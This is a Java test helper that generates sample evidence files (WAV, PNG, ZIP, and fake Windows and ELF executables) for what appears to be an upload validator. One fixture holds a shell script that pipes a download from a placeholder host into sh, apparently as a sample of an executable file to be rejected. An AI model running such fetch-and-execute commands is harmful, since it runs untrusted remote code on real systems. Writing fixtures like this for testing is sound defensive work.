package uk.nhs.incidents.support;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Small real files for evidence tests: made in memory, or read from src/test/resources/evidence. */
public final class Files {

    private Files() {
    }

    /** A PCM WAV recording of {@code dataBytes} bytes of noise. */
    public static byte[] wav(int dataBytes) {
        ByteBuffer header = ByteBuffer.allocate(44).order(ByteOrder.LITTLE_ENDIAN);
        header.put("RIFF".getBytes(StandardCharsets.US_ASCII)).putInt(36 + dataBytes)
                .put("WAVE".getBytes(StandardCharsets.US_ASCII))
                .put("fmt ".getBytes(StandardCharsets.US_ASCII)).putInt(16).putShort((short) 1).putShort((short) 1)
                .putInt(8000).putInt(16000).putShort((short) 2).putShort((short) 16)
                .put("data".getBytes(StandardCharsets.US_ASCII)).putInt(dataBytes);
        byte[] file = new byte[44 + dataBytes];
        System.arraycopy(header.array(), 0, file, 0, 44);
        byte[] noise = new byte[dataBytes];
        new Random(42).nextBytes(noise);
        System.arraycopy(noise, 0, file, 44, dataBytes);
        return file;
    }

    /** A Windows executable's leading bytes. */
    public static byte[] executable() {
        byte[] file = new byte[4096];
        new Random(7).nextBytes(file);
        file[0] = 'M';
        file[1] = 'Z';
        return file;
    }

    /** An ELF executable's leading bytes (64-bit, little-endian, an executable file). */
    public static byte[] elf() {
        byte[] file = new byte[4096];
        new Random(8).nextBytes(file);
        System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0}, 0, file, 0, 18);
        return file;
    }

    /** A shell script: text, but a program. */
    public static byte[] script() {
        return "#!/bin/sh\ncurl -s https://example.invalid/payload | sh\n".getBytes(StandardCharsets.US_ASCII);
    }

    /** A ZIP archive of one text file: a container, but no office document. */
    public static byte[] zip() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("notes.txt"));
            zip.write("Call at 09:10\n".getBytes(StandardCharsets.US_ASCII));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** A genuine file from src/test/resources/evidence (see the README there for how each was made). */
    public static byte[] sample(String name) {
        try (InputStream in = Files.class.getResourceAsStream("/evidence/" + name)) {
            if (in == null) {
                throw new IllegalArgumentException("No sample evidence " + name);
            }
            return in.readAllBytes();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] png() {
        return HexFormat.of().parseHex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
                + "0000000d49444154789c6360000002000001e221bc330000000049454e44ae426082");
    }

    public static String sha256(byte[] content) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(content));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
